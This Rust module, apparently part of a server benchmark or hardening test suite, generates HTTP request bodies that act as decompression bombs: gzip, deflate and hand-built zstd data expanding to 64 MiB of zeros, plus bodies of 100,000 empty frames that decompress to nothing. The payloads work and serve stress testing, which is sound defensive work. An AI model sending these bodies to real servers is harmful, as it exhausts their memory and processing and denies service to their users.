//! Compressed bodies that decompress to far more bytes than they have, or to nothing.
//!
//! Owns the bytes of these bodies. Must not know how they are sent.

use std::io::{self, Write};

use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};

use super::connection::packed_request;
use crate::bench::hostile::attacks::Coding;

/// Size of the data to which a decompression bomb decompresses, in bytes.
const ZEROS: usize = 64 << 20;

/// Number of empty members, blocks or frames of a body that decompresses to nothing.
const EMPTY: usize = 100_000;

/// Number of zeros to which one block of a zstd frame decompresses. This is the maximum size of a
/// block.
const BLOCK_BYTES: usize = 128 << 10;

/// Returns two requests with bodies in a content coding: one body decompresses to [`ZEROS`] bytes,
/// and the other one to nothing. Fails if a body cannot be compressed.
pub fn requests(coding: Coding) -> io::Result<Vec<Vec<u8>>> {
    let zeros = vec![0; ZEROS];
    let (name, bodies) = match coding {
        Coding::Gzip => ("gzip", [gzip(&zeros)?, gzip(&[])?.repeat(EMPTY)]),
        Coding::Deflate => {
            let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
            encoder.write_all(&zeros)?;
            // A zlib stream of empty stored blocks, which has no last block.
            let empty = b"\0\0\0\xFF\xFF".repeat(EMPTY);
            let empty = [&b"\x78\x9C"[..], &empty].concat();
            ("deflate", [encoder.finish()?, empty])
        }
        Coding::Zstd => ("zstd", [zstd_zeros(), skipped_frame().repeat(EMPTY)]),
    };
    Ok(bodies
        .iter()
        .map(|body| packed_request(name, body))
        .collect())
}

fn gzip(data: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(data)?;
    encoder.finish()
}

/// Returns a zstd frame (RFC 8878) with a window of 128 KiB that decompresses to [`ZEROS`] zeros.
/// Each block states one zero and how often it is repeated.
fn zstd_zeros() -> Vec<u8> {
    let mut frame = b"\x28\xB5\x2F\xFD\0\x38".to_vec();
    let blocks = ZEROS / BLOCK_BYTES;
    for block in 1..=blocks {
        let header = (BLOCK_BYTES as u32) << 3 | 1 << 1 | u32::from(block == blocks);
        let [a, b, c, _] = header.to_le_bytes();
        frame.extend([a, b, c, 0]);
    }
    frame
}

/// Returns a skippable zstd frame (RFC 8878), which has no content.
fn skipped_frame() -> Vec<u8> {
    b"\x50\x2A\x4D\x18\0\0\0\0".to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_bomb_is_smaller_than_the_limit_of_a_body() {
        for coding in [Coding::Gzip, Coding::Deflate, Coding::Zstd] {
            for request in requests(coding).unwrap() {
                assert!(request.len() < 4 << 20, "{coding:?}: {}", request.len());
            }
        }
    }
}
